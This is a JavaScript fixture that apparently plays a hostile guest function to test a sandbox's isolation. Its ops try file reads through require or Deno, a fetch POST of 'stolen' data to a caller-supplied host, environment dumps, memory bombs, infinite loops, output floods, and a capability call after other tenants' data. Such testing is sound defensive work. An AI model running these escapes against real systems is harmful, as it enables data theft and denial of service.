// A hostile user's JavaScript function: every op tries one way out of, or around, the sandbox.
import { call } from "tars:guest/host@0.1.0";

let remembered = null;

function hoardMemory() {
  const hoard = [];
  for (;;) {
    hoard.push(new Uint8Array(1 << 20).fill(7));
  }
}

export function handle(inputJson) {
  const input = JSON.parse(inputJson);
  switch (input.op) {
    case "read_file": {
      // Whatever a JavaScript runtime might offer for files: Node's require, Deno, a file: URL.
      if (typeof require === "function") return require("fs").readFileSync(input.path, "utf8");
      if (typeof Deno === "object") return Deno.readTextFileSync(input.path);
      throw new Error(`cannot read ${input.path}: fetch=${typeof fetch}, require=${typeof require}`);
    }
    case "socket": {
      if (typeof fetch !== "function") throw new Error("no fetch: no way to open a connection");
      // fetch returns a promise; a function cannot wait, so whatever it sends must go out now.
      fetch(`http://${input.address}/stolen`, { method: "POST", body: "stolen" });
      return JSON.stringify({ sent: true });
    }
    case "environment":
      return JSON.stringify({ process: typeof process, env: globalThis.process?.env ?? null });
    case "memory_bomb":
      return hoardMemory();
    case "spin": {
      let n = 0;
      for (;;) n += 1;
    }
    case "flood":
      return "x".repeat(input.bytes ?? 1 << 24);
    case "capability":
      return call(input.name ?? "knowledge.query", JSON.stringify({ question: "other tenants' data" }));
    case "remember":
      remembered = input.secret;
      return JSON.stringify({ remembered: true });
    case "recall":
      return JSON.stringify({ remembered });
    case "ok":
      return JSON.stringify({ ok: true });
    default:
      throw new Error(`unknown op ${input.op}`);
  }
}
